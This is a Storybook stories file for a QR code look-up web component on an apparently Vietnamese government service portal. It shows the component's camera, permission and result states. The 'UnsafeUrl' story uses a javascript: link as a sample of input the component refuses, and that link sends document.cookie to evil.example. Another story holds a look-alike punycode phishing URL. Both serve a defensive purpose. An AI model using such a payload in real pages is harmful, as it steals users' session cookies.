// <motcua-qr-lookup> in every state. Camera states use stand-in media devices (a canvas "camera"),
// results are set as properties, so nothing here needs a real camera or the reference server.
import type { Meta, StoryObj } from '@storybook/web-components-vite';
import { html } from 'lit';
import '../src/elements/qr-lookup/qr-lookup.js';
import type { MediaDevicesLike } from '../src/elements/qr-lookup/camera.js';
import type { MotcuaQrLookup } from '../src/elements/qr-lookup/qr-lookup.component.js';
import type { QrPayload } from '../src/qr/parse.js';

interface Args {
  allowedHosts: string;
  result?: QrPayload;
  status?: MotcuaQrLookup['status'];
  mediaDevices?: MediaDevicesLike;
}

/** A camera that films a grey test card, so the scanning state can be seen without hardware. */
function testCardCamera(): MediaDevicesLike {
  return {
    async getUserMedia() {
      const canvas = document.createElement('canvas');
      canvas.width = 640;
      canvas.height = 480;
      const ctx = canvas.getContext('2d')!;
      let t = 0;
      const draw = () => {
        ctx.fillStyle = '#6b7280';
        ctx.fillRect(0, 0, 640, 480);
        ctx.fillStyle = '#9ca3af';
        ctx.fillRect((t += 4) % 640, 0, 40, 480);
      };
      draw();
      const stream = canvas.captureStream(15);
      const timer = setInterval(draw, 66);
      stream.getVideoTracks()[0]!.addEventListener('ended', () => clearInterval(timer));
      return stream;
    },
    async enumerateDevices() {
      return [
        { kind: 'videoinput', deviceId: 'rear', label: 'Camera sau', groupId: 'g' } as MediaDeviceInfo,
        { kind: 'videoinput', deviceId: 'front', label: 'Camera trước', groupId: 'g' } as MediaDeviceInfo,
      ];
    },
  };
}

const refusing: MediaDevicesLike = {
  getUserMedia: () => Promise.reject(new DOMException('Permission denied', 'NotAllowedError')),
  enumerateDevices: async () => [],
};

const meta: Meta<Args> = {
  title: 'Elements/QR look-up',
  component: 'motcua-qr-lookup',
  args: { allowedHosts: 'dichvucong.sonha.gov.vn, zalo.me' },
  render: ({ allowedHosts, result, status, mediaDevices }) => html`<motcua-qr-lookup
    allowed-hosts=${allowedHosts}
    .result=${result}
    .status=${status ?? 'idle'}
    .mediaDevices=${mediaDevices}
  ></motcua-qr-lookup>`,
};
export default meta;
type Story = StoryObj<Args>;

/** Before scanning: the camera button, photo buttons and the typed-code form. Uses the real camera when tapped. */
export const Idle: Story = {};

/** Scanning: the viewfinder with its frame, a camera choice and the stop button (a test card stands in for the camera). */
export const Scanning: Story = {
  args: { mediaDevices: testCardCamera() },
  play: async ({ canvasElement }) => {
    await canvasElement.querySelector<MotcuaQrLookup>('motcua-qr-lookup')!.start();
  },
};

/** The device has no camera: the photo and typed fallbacks remain. */
export const NoCamera: Story = {
  args: { mediaDevices: {} as MediaDevicesLike },
  play: async ({ canvasElement }) => {
    await canvasElement.querySelector<MotcuaQrLookup>('motcua-qr-lookup')!.start();
  },
};

/** The citizen (or the browser) refused the camera. */
export const PermissionRefused: Story = {
  args: { mediaDevices: refusing },
  play: async ({ canvasElement }) => {
    await canvasElement.querySelector<MotcuaQrLookup>('motcua-qr-lookup')!.start();
  },
};

/** Reading a picked photo. */
export const ReadingPhoto: Story = { args: { status: 'reading' } };

/** Recognised: a procedure code (with <motcua-procedure-detail> on the page, the procedure opens below). */
export const RecognisedProcedure: Story = {
  args: { status: 'result', result: { kind: 'procedure', code: '1.001193', via: 'national' } },
};

/** Recognised: a dossier code from a receipt. */
export const RecognisedDossier: Story = {
  args: { status: 'result', result: { kind: 'dossier', code: '000.00.53.H48-220921-0099', via: 'code' } },
};

/** A link to a host on the allowlist: the host is spelled out and the link needs a tap. */
export const AllowedLink: Story = {
  args: { status: 'result', result: { kind: 'url', url: 'https://zalo.me/ubndsonha', host: 'zalo.me' } },
};

/** Unrecognised: a link to a host that is not allowed, shown as text only. */
export const Unrecognised: Story = {
  args: {
    status: 'result',
    result: { kind: 'text', text: 'https://khuyen-mai.example/nhan-qua?ref=quay-so-3', host: 'khuyen-mai.example' },
  },
};

/** Unrecognised plain text. */
export const UnrecognisedText: Story = {
  args: { status: 'result', result: { kind: 'text', text: 'WIFI mật khẩu: motcua2025 — hỏi cán bộ tại quầy số 3' } },
};

/** Unsafe: a javascript: link is refused, with the reason. */
export const UnsafeUrl: Story = {
  args: { status: 'result', result: { kind: 'unsafe', reason: 'scheme', text: 'javascript:fetch("//evil.example/?c="+document.cookie)' } },
};

/** Unsafe: a look-alike (punycode) host. */
export const LookalikeHost: Story = {
  args: { status: 'result', result: { kind: 'unsafe', reason: 'lookalike', text: 'https://dịchvucong.gov.vn/p/home/dvc-tthc-thu-tuc-hanh-chinh-chi-tiet.html?ma_thu_tuc=1.001193' } },
};

/** Phone width. */
export const PhoneWidth: Story = {
  args: { mediaDevices: refusing },
  render: (args) => html`<div style="max-width: 375px; border: 1px dashed #999">${meta.render!(args, {} as never)}</div>`,
  play: PermissionRefused.play,
};

/** Dark host theme, scanning. */
export const Dark: Story = {
  args: { mediaDevices: testCardCamera() },
  render: ({ mediaDevices }) => html`<div style="background: #0d1014; padding: 1rem">
    <motcua-qr-lookup theme="dark" .mediaDevices=${mediaDevices}></motcua-qr-lookup>
  </div>`,
  play: Scanning.play,
};

/** English interface, unsafe result. */
export const English: Story = {
  args: UnsafeUrl.args,
  render: (args) => html`<div lang="en">${meta.render!(args, {} as never)}</div>`,
};
